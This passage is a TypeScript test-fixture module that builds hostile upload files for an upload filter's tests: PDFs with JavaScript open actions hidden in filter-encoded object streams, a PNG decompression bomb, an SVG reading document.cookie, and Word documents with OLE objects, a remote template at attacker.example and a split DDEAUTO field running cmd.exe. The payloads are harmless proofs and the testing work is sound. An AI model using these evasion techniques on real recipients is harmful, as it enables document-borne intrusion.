import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import { writePdf } from '../../../server/seed/assets/pdfWriter';

/*
 * Files built byte by byte for the upload tests: zip containers (DOCX, ODT, a macro document),
 * PDFs with and without active content, and a PNG decompression bomb.
 */

export interface ZipInput {
  name: string;
  content: Buffer | string;
  deflate?: boolean;
  /** A compression method to write instead (the content then goes as given). */
  method?: number;
}

/** A zip archive (stored or deflated entries, with their CRCs and the central directory). */
export function zip(entries: ZipInput[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const data = Buffer.from(entry.content);
    const body = entry.deflate && entry.method === undefined ? deflateRawSync(data) : data;
    const method = entry.method ?? (entry.deflate ? 8 : 0);
    const name = Buffer.from(entry.name, 'utf8');
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(crc32(data), 14);
    local.writeUInt32LE(body.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(crc32(data), 16);
    central.writeUInt32LE(body.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, body);
    centrals.push(central, name);
    offset += local.length + name.length + body.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const CONTENT_TYPES = (main: string) =>
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Default Extension="xml" ContentType="application/xml"/>' +
  `<Override PartName="/word/document.xml" ContentType="${main}"/></Types>`;

export const docx = () =>
  zip([
    {
      name: '[Content_Types].xml',
      content: CONTENT_TYPES(
        'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
      ),
      deflate: true,
    },
    { name: 'word/document.xml', content: '<w:document/>', deflate: true },
  ]);

/** A macro-enabled Word document (docm): its VBA project is a program. */
export const docm = () =>
  zip([
    {
      name: '[Content_Types].xml',
      content: CONTENT_TYPES('application/vnd.ms-word.document.macroEnabled.main+xml'),
      deflate: true,
    },
    { name: 'word/document.xml', content: '<w:document/>', deflate: true },
    { name: 'word/vbaProject.bin', content: Buffer.from([0xd0, 0xcf, 0x11, 0xe0]) },
  ]);

export const odt = () =>
  zip([
    { name: 'mimetype', content: 'application/vnd.oasis.opendocument.text' },
    { name: 'content.xml', content: '<office:document-content/>', deflate: true },
  ]);

/** Any other zip (a renamed archive). */
export const plainZip = () => zip([{ name: 'readme.txt', content: 'hello', deflate: true }]);

export const simplePdf = () =>
  writePdf({
    title: 'Test',
    lang: 'fr-BE',
    lines: [{ cells: [{ x: 0, text: 'Bonjour' }], size: 12 }],
  });

/** A PDF whose catalog opens with an action; `body` is that action's dictionary text. */
export function pdfWithAction(action: string): Buffer {
  const clean = simplePdf().toString('latin1');
  return Buffer.from(
    clean.replace('/Type /Catalog', `/Type /Catalog /OpenAction ${action}`),
    'latin1',
  );
}

/** A PDF whose JavaScript hides in a compressed object stream. */
export function pdfWithCompressedScript(): Buffer {
  const hidden = deflateSync(Buffer.from('<< /S /JavaScript /JS (app.alert(1)) >>'));
  const clean = simplePdf().toString('latin1');
  const object = `9 0 obj\n<< /Type /ObjStm /Filter /FlateDecode /Length ${hidden.length} >>\nstream\n`;
  const at = clean.lastIndexOf('xref');
  return Buffer.concat([
    Buffer.from(clean.slice(0, at), 'latin1'),
    Buffer.from(object, 'latin1'),
    hidden,
    Buffer.from('\nendstream\nendobj\n', 'latin1'),
    Buffer.from(clean.slice(at), 'latin1'),
  ]);
}

/** A valid one-page PDF of exactly `size` bytes: its page's content stream is white space. */
export function paddedPdf(size: number): Buffer {
  const head = '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n';
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>',
  ];
  const build = (padding: number) => {
    const bodies = [
      ...objects,
      `<< /Length ${padding} >>\nstream\n${' '.repeat(padding)}\nendstream`,
    ];
    let text = head;
    const offsets: number[] = [];
    bodies.forEach((body, i) => {
      offsets.push(text.length);
      text += `${i + 1} 0 obj\n${body}\nendobj\n`;
    });
    const xref = text.length;
    text += `xref\n0 5\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
    return `${text}trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  };
  // The padding's own digits in /Length change the size: measured, then adjusted.
  const overhead = build(0).length;
  let padding = size - overhead;
  while (build(padding).length > size) padding -= 1;
  return Buffer.from(build(padding), 'latin1');
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const typed = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typed));
  return Buffer.concat([length, typed, crc]);
}

/**
 * A decompression bomb: a valid 1-bit greyscale PNG of side x side pixels, all black, whose
 * rows deflate to a few kilobytes (20000 x 20000 = 400 megapixels, 1.2 GB once decoded to RGB).
 * Built with zlib rather than encoded by sharp: sharp needs 15 s to encode 400 megapixels.
 */
export function pngBomb(side = 20000): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header[8] = 1; // bit depth
  header[9] = 0; // greyscale
  const rowBytes = 1 + Math.ceil(side / 8); // filter byte + pixels
  const rows = Buffer.alloc(rowBytes * side);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(rows, { level: 9 })),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** The first bytes of a Linux program (ELF) and of a Windows one (PE, "MZ"). */
export const elfExecutable = () =>
  Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(512, 0x90)]);
export const windowsExecutable = () =>
  Buffer.concat([Buffer.from('MZ'), Buffer.alloc(58), Buffer.from('PE\0\0'), Buffer.alloc(400)]);

export const svgWithScript = () =>
  Buffer.from(
    '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">' +
      '<script>alert(document.cookie)</script><rect width="10" height="10"/></svg>',
  );

/*
 * Hostile PDFs: a PDF 1.5 whose catalog and actions live in an object stream (found through a
 * cross-reference stream, as a reader finds them), the stream encoded with any chain of the
 * standard filters. The encoders below are the inverse of the filters (ISO 32000-1 §7.4).
 */

/** The filters a hostile object stream may use, as written in /Filter (in decode order). */
export type PdfFilterName =
  | 'ASCIIHexDecode'
  | 'AHx'
  | 'ASCII85Decode'
  | 'A85'
  | 'FlateDecode'
  | 'Fl'
  | 'LZWDecode'
  | 'LZW'
  | 'RunLengthDecode'
  | 'RL';

export function asciiHexEncode(data: Buffer): Buffer {
  // Lines of 64 digits: white space inside the data is part of the format.
  const hex = data.toString('hex').replace(/(.{64})/g, '$1\n');
  return Buffer.from(`${hex}>`, 'latin1');
}

export function ascii85Encode(data: Buffer): Buffer {
  let out = '';
  for (let i = 0; i < data.length; i += 4) {
    const chunk = Buffer.alloc(4);
    data.copy(chunk, 0, i, Math.min(i + 4, data.length));
    const count = Math.min(4, data.length - i);
    let value = chunk.readUInt32BE(0);
    if (value === 0 && count === 4) {
      out += 'z';
      continue;
    }
    const digits: string[] = [];
    for (let d = 0; d < 5; d += 1) {
      digits.unshift(String.fromCharCode((value % 85) + 33));
      value = Math.floor(value / 85);
    }
    out += digits.slice(0, count + 1).join('');
  }
  return Buffer.from(`${out.replace(/(.{72})/g, '$1\n')}~>`, 'latin1');
}

export function runLengthEncode(data: Buffer): Buffer {
  const out: number[] = [];
  let i = 0;
  while (i < data.length) {
    let run = 1;
    while (i + run < data.length && data[i + run] === data[i] && run < 128) run += 1;
    if (run >= 3) {
      out.push(257 - run, data[i]!);
      i += run;
      continue;
    }
    const from = i;
    while (i < data.length && i - from < 128) {
      if (data[i + 1] === data[i] && data[i + 2] === data[i]) break;
      i += 1;
    }
    out.push(i - from - 1, ...data.subarray(from, i));
  }
  out.push(128);
  return Buffer.from(out);
}

/** LZW with 9 to 12-bit codes and EarlyChange 1, as PDF writers used it before Flate. */
export function lzwEncode(data: Buffer): Buffer {
  const bytes: number[] = [];
  let bits = 0;
  let count = 0;
  const put = (code: number, width: number) => {
    bits = (bits << width) | code;
    count += width;
    while (count >= 8) {
      bytes.push((bits >>> (count - 8)) & 0xff);
      count -= 8;
    }
    bits &= (1 << count) - 1;
  };
  // The reader adds its table entries one code behind the writer: its width, for the n-th
  // code after a clear, follows 258 + (n - 2) entries.
  const widthFor = (entries: number) =>
    entries + 1 >= 2048 ? 12 : entries + 1 >= 1024 ? 11 : entries + 1 >= 512 ? 10 : 9;
  let table = new Map<string, number>();
  let next = 258;
  let emitted = 0;
  const emit = (code: number) => {
    emitted += 1;
    put(code, emitted === 1 ? 9 : widthFor(258 + emitted - 2));
  };
  put(256, 9);
  let word = '';
  for (const byte of data) {
    const candidate = word + String.fromCharCode(byte);
    if (word === '' || table.has(candidate)) {
      word = candidate;
      continue;
    }
    emit(word.length === 1 ? word.charCodeAt(0) : table.get(word)!);
    table.set(candidate, next);
    next += 1;
    word = String.fromCharCode(byte);
    if (next >= 4000) {
      emit(word.charCodeAt(0));
      put(256, widthFor(258 + emitted - 1));
      table = new Map();
      next = 258;
      emitted = 0;
      word = '';
    }
  }
  if (word) emit(word.length === 1 ? word.charCodeAt(0) : table.get(word)!);
  put(257, emitted === 0 ? 9 : widthFor(258 + emitted - 1));
  if (count > 0) bytes.push((bits << (8 - count)) & 0xff);
  return Buffer.from(bytes);
}

/** PNG prediction (one byte a pixel) by rows of `columns`, each row's filter in turn 0 to 4. */
export function pngPredict(data: Buffer, columns: number): Buffer {
  const rows = Math.ceil(data.length / columns);
  const padded = Buffer.alloc(rows * columns, 0x20);
  data.copy(padded);
  const out: number[] = [];
  for (let r = 0; r < rows; r += 1) {
    const tag = r % 5;
    out.push(tag);
    for (let i = 0; i < columns; i += 1) {
      const at = r * columns + i;
      const left = i > 0 ? padded[at - 1]! : 0;
      const up = r > 0 ? padded[at - columns]! : 0;
      const upLeft = r > 0 && i > 0 ? padded[at - columns - 1]! : 0;
      const p = left + up - upLeft;
      const paeth =
        Math.abs(p - left) <= Math.abs(p - up) && Math.abs(p - left) <= Math.abs(p - upLeft)
          ? left
          : Math.abs(p - up) <= Math.abs(p - upLeft)
            ? up
            : upLeft;
      const predicted = [0, left, up, (left + up) >> 1, paeth][tag]!;
      out.push((padded[at]! - predicted) & 0xff);
    }
  }
  return Buffer.from(out);
}

const FULL: Record<string, string> = {
  AHx: 'ASCIIHexDecode',
  A85: 'ASCII85Decode',
  Fl: 'FlateDecode',
  LZW: 'LZWDecode',
  RL: 'RunLengthDecode',
};

function encodeWith(name: PdfFilterName, data: Buffer, columns: number | undefined): Buffer {
  const full = FULL[name] ?? name;
  const predicted = columns && /Flate|LZW/.test(full) ? pngPredict(data, columns) : data;
  switch (full) {
    case 'ASCIIHexDecode':
      return asciiHexEncode(data);
    case 'ASCII85Decode':
      return ascii85Encode(data);
    case 'FlateDecode':
      return deflateSync(predicted);
    case 'LZWDecode':
      return lzwEncode(predicted);
    default:
      return runLengthEncode(data);
  }
}

/** Data a reader gets back by applying `filters` in order. */
export function pdfEncode(data: Buffer, filters: PdfFilterName[], columns?: number): Buffer {
  return filters.reduceRight((current, name) => encodeWith(name, current, columns), data);
}

export interface ObjectStreamPdf {
  /** The objects inside the object stream, by number (1 is the catalog, 10 the action). */
  hidden?: Record<number, string>;
  /** The object stream's filters, in the order a reader applies them. */
  filters?: PdfFilterName[];
  /** A PNG predictor (Columns) on its Flate or LZW filter. */
  columns?: number;
  /** How the object stream's dictionary names its kind: `/Type /ObjStm` unless replaced. */
  typeEntry?: string;
  /** Written between the object stream's dictionary and its data (a comment, other EOLs). */
  beforeData?: string;
  /** The object stream's data as written (else its objects through `filters`). */
  rawData?: Buffer;
  /** More entries of the object stream's dictionary, as written (/Filter /JBIG2Decode). */
  extraEntries?: string;
  /** /Length as an indirect object: 12 0 R, written as object 12, or 'missing'. */
  lengthRef?: 'written' | 'missing';
  /** More entries of the cross-reference stream's dictionary (the trailer's): /Encrypt … */
  trailerEntries?: string;
}

/** An /OpenAction pointing at JavaScript, the probe's finding. */
export const OPEN_ACTION_SCRIPT: Record<number, string> = {
  1: '<< /Type /Catalog /Pages 2 0 R /OpenAction 10 0 R >>',
  10: '<< /S /JavaScript /JS (app.alert\\(document.title\\)) >>',
};
export const HARMLESS_OBJECTS: Record<number, string> = {
  1: '<< /Type /Catalog /Pages 2 0 R /PageMode /UseNone >>',
  10: '<< /Title (Curriculum vitae) /Producer (Vitrine tests) >>',
};

/**
 * A PDF 1.5 whose catalog (object 1) and object 10 live in object stream 8, listed by the
 * cross-reference stream 9 (type 2 entries): what a reader opens, object for object.
 */
export function pdfWithObjectStream(options: ObjectStreamPdf = {}): Buffer {
  const hidden = options.hidden ?? OPEN_ACTION_SCRIPT;
  const filters = options.filters ?? [];
  const numbers = Object.keys(hidden).map(Number);
  const bodies = numbers.map((n) => `${hidden[n]}\n`);
  let offset = 0;
  const header = numbers
    .map((n, i) => {
      const pair = `${n} ${offset}`;
      offset += bodies[i]!.length;
      return pair;
    })
    .join(' ');
  const plain = Buffer.from(`${header}\n${bodies.join('')}`, 'latin1');
  const data = options.rawData ?? pdfEncode(plain, filters, options.columns);
  const filterEntry = filters.length
    ? ` /Filter ${filters.length === 1 ? `/${filters[0]}` : `[${filters.map((f) => `/${f}`).join(' ')}]`}`
    : '';
  const parms = `<< /Predictor 12 /Columns ${options.columns} >>`;
  const parmsEntry = options.columns
    ? ` /DecodeParms ${
        filters.length === 1
          ? parms
          : `[${filters.map((f) => (/Fl|LZW/.test(f) ? parms : 'null')).join(' ')}]`
      }`
    : '';

  const content = 'BT /F1 12 Tf 56 769 Td (Curriculum vitae) Tj ET';
  const length = options.lengthRef ? '12 0 R' : String(data.length);
  const outside: Record<number, Buffer> = {
    2: Buffer.from('<< /Type /Pages /Kids [6 0 R] /Count 1 >>', 'latin1'),
    3: Buffer.from('<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>', 'latin1'),
    6: Buffer.from(
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> /Contents 7 0 R >>',
      'latin1',
    ),
    7: Buffer.from(`<< /Length ${content.length} >>\nstream\n${content}\nendstream`, 'latin1'),
    8: Buffer.concat([
      Buffer.from(
        `<< ${options.typeEntry ?? '/Type /ObjStm'} /N ${numbers.length} /First ${header.length + 1} /Length ${length}${filterEntry}${parmsEntry}${options.extraEntries ?? ''} >>${options.beforeData ?? '\nstream\n'}`,
        'latin1',
      ),
      data,
      Buffer.from('\nendstream', 'latin1'),
    ]),
  };
  if (options.lengthRef === 'written') outside[12] = Buffer.from(String(data.length), 'latin1');
  const chunks: Buffer[] = [Buffer.from('%PDF-1.5\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets = new Map<number, number>();
  let at = chunks[0]!.length;
  for (const [n, body] of Object.entries(outside)) {
    const chunk = Buffer.concat([
      Buffer.from(`${n} 0 obj\n`, 'latin1'),
      body,
      Buffer.from('\nendobj\n', 'latin1'),
    ]);
    offsets.set(Number(n), at);
    chunks.push(chunk);
    at += chunk.length;
  }
  const size = Math.max(12, ...numbers) + 1;
  const entries = Buffer.alloc(size * 7);
  for (let n = 0; n < size; n += 1) {
    const row = n * 7;
    const index = numbers.indexOf(n);
    if (index >= 0) {
      entries[row] = 2;
      entries.writeUInt32BE(8, row + 1);
      entries.writeUInt16BE(index, row + 5);
    } else if (offsets.has(n) || n === 9) {
      entries[row] = 1;
      entries.writeUInt32BE(n === 9 ? at : offsets.get(n)!, row + 1);
    } else {
      entries.writeUInt16BE(n === 0 ? 65535 : 0, row + 5);
    }
  }
  chunks.push(
    Buffer.from(
      `9 0 obj\n<< /Type /XRef /Size ${size} /W [1 4 2] /Root 1 0 R${options.trailerEntries ?? ''} /Length ${entries.length} >>\nstream\n`,
      'latin1',
    ),
    entries,
    Buffer.from(`\nendstream\nendobj\nstartxref\n${at}\n%%EOF\n`, 'latin1'),
  );
  return Buffer.concat(chunks);
}

/*
 * Word-processing documents as Word and LibreOffice write them, with the hostile parts the
 * upload must refuse: embedded OLE objects, remote templates and other external
 * relationships, DDE fields, ODF objects, event listeners and external links.
 */

const W = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PKG_REL = 'http://schemas.openxmlformats.org/package/2006/relationships';

/** A relationship of word/document.xml (or of another part, through `relsOf`). */
export interface DocxRelationship {
  id: string;
  type: string;
  target: string;
  external?: boolean;
}

export const relationships = (rels: DocxRelationship[]) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="${PKG_REL}">` +
  rels
    .map(
      (r) =>
        `<Relationship Id="${r.id}" Type="${REL}/${r.type}" Target="${r.target}"${r.external ? ' TargetMode="External"' : ''}/>`,
    )
    .join('') +
  '</Relationships>';

export interface DocxParts {
  /** The body of word/document.xml (paragraphs). */
  body?: string;
  /** word/document.xml's relationships, after the styles and settings ones. */
  rels?: DocxRelationship[];
  /** word/settings.xml's content (inside w:settings) and its relationships. */
  settings?: string;
  settingsRels?: DocxRelationship[];
  /** Any other entries, by name (binary or text). */
  extra?: Record<string, Buffer | string>;
  /** Replaces an entry's text after it is built (an encoding, a trick). */
  rewrite?: (name: string, text: string) => Buffer | string;
  /** Entries written as given (another compression method). */
  raw?: ZipInput[];
}

/** A run of text. */
export const run = (text: string) => `<w:r><w:t xml:space="preserve">${text}</w:t></w:r>`;
export const paragraph = (...runs: string[]) => `<w:p>${runs.join('')}</w:p>`;
/** A complex field: begin, its code in runs (instrText each), separate, result, end. */
export const field = (codeRuns: string[], result = 'x') =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${codeRuns
    .map((code) => `<w:r><w:instrText xml:space="preserve">${code}</w:instrText></w:r>`)
    .join(
      '',
    )}<w:r><w:fldChar w:fldCharType="separate"/></w:r>${run(result)}<w:r><w:fldChar w:fldCharType="end"/></w:r>`;

/** A DOCX as Word writes one: content types, package and document relationships, styles. */
export function docxWith(parts: DocxParts = {}): Buffer {
  const types =
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
    '<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>' +
    '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.printerSettings"/>' +
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>' +
    '<Override PartName="/word/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"/>' +
    '<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>' +
    '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>' +
    '</Types>';
  const entries: Record<string, Buffer | string> = {
    '[Content_Types].xml': types,
    '_rels/.rels': relationships([
      { id: 'rId1', type: 'officeDocument', target: 'word/document.xml' },
    ]).replace(
      '</Relationships>',
      `<Relationship Id="rId2" Type="${PKG_REL}/metadata/core-properties" Target="docProps/core.xml"/></Relationships>`,
    ),
    'docProps/core.xml':
      '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Curriculum vitae</dc:title><dc:creator>Anne Peeters</dc:creator></cp:coreProperties>',
    'word/document.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="${W}" xmlns:r="${R}" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:v="urn:schemas-microsoft-com:vml"><w:body>${
      parts.body ?? paragraph(run('Anne Peeters, vendeuse'))
    }<w:sectPr><w:pgSz w:w="11906" w:h="16838"/></w:sectPr></w:body></w:document>`,
    'word/_rels/document.xml.rels': relationships([
      { id: 'rId1', type: 'styles', target: 'styles.xml' },
      { id: 'rId2', type: 'settings', target: 'settings.xml' },
      ...(parts.rels ?? []),
    ]),
    'word/styles.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:styles xmlns:w="${W}"><w:style w:type="paragraph" w:default="1" w:styleId="Normal"><w:name w:val="Normal"/></w:style></w:styles>`,
    'word/settings.xml': `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:settings xmlns:w="${W}" xmlns:r="${R}"><w:zoom w:percent="100"/>${parts.settings ?? ''}<w:rsids><w:rsidRoot w:val="00A1B2C3"/></w:rsids></w:settings>`,
    ...(parts.settingsRels
      ? { 'word/_rels/settings.xml.rels': relationships(parts.settingsRels) }
      : {}),
    ...parts.extra,
  };
  return zip([
    ...Object.entries(entries).map(([name, content]) => ({
      name,
      content:
        parts.rewrite && typeof content === 'string' ? parts.rewrite(name, content) : content,
      deflate: true,
    })),
    ...(parts.raw ?? []),
  ]);
}

/** A tiny PNG, as word/media/image1.png or an ODT's Pictures/. */
export const tinyPng = () =>
  Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', Buffer.from([0, 0, 0, 1, 0, 0, 0, 1, 8, 0, 0, 0, 0])),
    pngChunk('IDAT', deflateSync(Buffer.from([0, 0]))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);

/** The OLE compound file signature: what an embedded object's .bin starts with. */
export const oleBytes = () =>
  Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.alloc(504)]);

/**
 * A CV as Word writes one, with everything a harmless document holds: web and mail links, a
 * picture, page and hyperlink fields, a table of contents, custom XML reached with ../
 */
export function cleanDocx(): Buffer {
  return docxWith({
    body:
      paragraph(run('Anne Peeters')) +
      `<w:p><w:hyperlink r:id="rId10" w:history="1">${run('linkedin.com/in/anne')}</w:hyperlink></w:p>` +
      `<w:p><w:hyperlink r:id="rId11">${run('anne@example.be')}</w:hyperlink><w:hyperlink w:anchor="experience">${run('Expérience')}</w:hyperlink></w:p>` +
      paragraph(field([' TOC \\o "1-3" \\h \\z \\u '], 'Table des matières')) +
      paragraph(field([' HYPERLINK "https://www.example.be/portfolio" '], 'portfolio')) +
      paragraph(
        field([' PAGE '], '1'),
        '<w:fldSimple w:instr=" NUMPAGES "><w:r><w:t>2</w:t></w:r></w:fldSimple>',
      ) +
      `<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="1" name="photo.png"><a:hlinkClick r:id="rId10"/></pic:cNvPr><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed="rId12"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`,
    rels: [
      {
        id: 'rId10',
        type: 'hyperlink',
        target: 'https://www.linkedin.com/in/anne',
        external: true,
      },
      { id: 'rId11', type: 'hyperlink', target: 'mailto:anne@example.be', external: true },
      { id: 'rId12', type: 'image', target: 'media/image1.png' },
      { id: 'rId13', type: 'customXml', target: '../customXml/item1.xml' },
    ],
    extra: {
      'word/media/image1.png': tinyPng(),
      'customXml/item1.xml':
        '<?xml version="1.0"?><b:Sources xmlns:b="http://schemas.openxmlformats.org/officeDocument/2006/bibliography"/>',
      'word/printerSettings/printerSettings1.bin': Buffer.alloc(64, 1),
    },
  });
}

const ODF = {
  office: 'urn:oasis:names:tc:opendocument:xmlns:office:1.0',
  text: 'urn:oasis:names:tc:opendocument:xmlns:text:1.0',
  draw: 'urn:oasis:names:tc:opendocument:xmlns:drawing:1.0',
  xlink: 'http://www.w3.org/1999/xlink',
  script: 'urn:oasis:names:tc:opendocument:xmlns:script:1.0',
  meta: 'urn:oasis:names:tc:opendocument:xmlns:meta:1.0',
  svg: 'urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0',
};
const odfNamespaces = Object.entries(ODF)
  .map(([prefix, uri]) => `xmlns:${prefix}="${uri}"`)
  .join(' ');

export interface OdtParts {
  /** The office:text's content (paragraphs, frames). */
  text?: string;
  /** office:document-content's children before the body (scripts, event listeners). */
  before?: string;
  /** meta.xml's office:meta content. */
  meta?: string;
  extra?: Record<string, Buffer | string>;
}

/** An ODT as LibreOffice writes one: mimetype first and stored, content, meta, manifest. */
export function odtWith(parts: OdtParts = {}): Buffer {
  const extra = parts.extra ?? {};
  const manifest =
    '<?xml version="1.0" encoding="UTF-8"?>\n<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">' +
    '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>' +
    ['content.xml', 'meta.xml', ...Object.keys(extra)]
      .map(
        (p) =>
          `<manifest:file-entry manifest:full-path="${p}" manifest:media-type="${p.endsWith('.png') ? 'image/png' : 'text/xml'}"/>`,
      )
      .join('') +
    '</manifest:manifest>';
  return zip([
    { name: 'mimetype', content: 'application/vnd.oasis.opendocument.text' },
    {
      name: 'content.xml',
      content: `<?xml version="1.0" encoding="UTF-8"?>\n<office:document-content ${odfNamespaces} office:version="1.3">${
        parts.before ?? '<office:scripts/>'
      }<office:body><office:text>${parts.text ?? '<text:p>Jan Janssens, verkoper</text:p>'}</office:text></office:body></office:document-content>`,
      deflate: true,
    },
    {
      name: 'meta.xml',
      content: `<?xml version="1.0" encoding="UTF-8"?>\n<office:document-meta ${odfNamespaces} office:version="1.3"><office:meta>${
        parts.meta ?? '<meta:generator>LibreOffice/7.6</meta:generator>'
      }</office:meta></office:document-meta>`,
      deflate: true,
    },
    ...Object.entries(extra).map(([name, content]) => ({ name, content, deflate: true })),
    { name: 'META-INF/manifest.xml', content: manifest, deflate: true },
  ]);
}

/** A CV as LibreOffice writes one: web links, an internal picture, a link to a heading. */
export function cleanOdt(): Buffer {
  return odtWith({
    text:
      '<text:h text:outline-level="1">Jan Janssens</text:h>' +
      '<text:p><text:a xlink:type="simple" xlink:href="https://www.linkedin.com/in/jan">LinkedIn</text:a> ' +
      '<text:a xlink:href="mailto:jan@example.be">jan@example.be</text:a> <text:a xlink:href="#Ervaring">Ervaring</text:a></text:p>' +
      '<text:p><draw:frame draw:name="Foto" svg:width="3cm" svg:height="3cm"><draw:image xlink:href="Pictures/foto.png" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>',
    extra: { 'Pictures/foto.png': tinyPng() },
  });
}

/** The probe's finding: an embedded OLE object (an Excel sheet, a package, a program). */
export const docxWithOleObject = () =>
  docxWith({
    body: paragraph(
      '<w:r><w:object w:dxaOrig="1440" w:dyaOrig="1440"><v:shape id="_x0000_i1025" type="#_x0000_t75"><v:imagedata r:id="rId20" o:title=""/></v:shape><o:OLEObject Type="Embed" ProgID="Package" ShapeID="_x0000_i1025" DrawAspect="Icon" ObjectID="_1700000001" r:id="rId21"/></w:object></w:r>',
    ),
    rels: [
      { id: 'rId20', type: 'image', target: 'media/image1.png' },
      { id: 'rId21', type: 'oleObject', target: 'embeddings/oleObject1.bin' },
    ],
    extra: { 'word/media/image1.png': tinyPng(), 'word/embeddings/oleObject1.bin': oleBytes() },
  });

/** The probe's finding: a remote template, fetched by Word when the document opens. */
export const docxWithRemoteTemplate = (target = 'https://attacker.example/cv.dotm') =>
  docxWith({
    settings: '<w:attachedTemplate r:id="rId1"/>',
    settingsRels: [{ id: 'rId1', type: 'attachedTemplate', target, external: true }],
  });

/** A DDEAUTO field that starts a program, its keyword split across runs as droppers do. */
export const docxWithDdeField = () =>
  docxWith({
    body: paragraph(
      field(['DDE', 'AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'], 'Chargement…'),
    ),
  });

/** An ODT with an embedded object (a sub-document in "Object 1/"). */
export const odtWithObject = () =>
  odtWith({
    text: '<text:p><draw:frame draw:name="Objet1"><draw:object xlink:href="./Object 1" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/></draw:frame></text:p>',
    extra: {
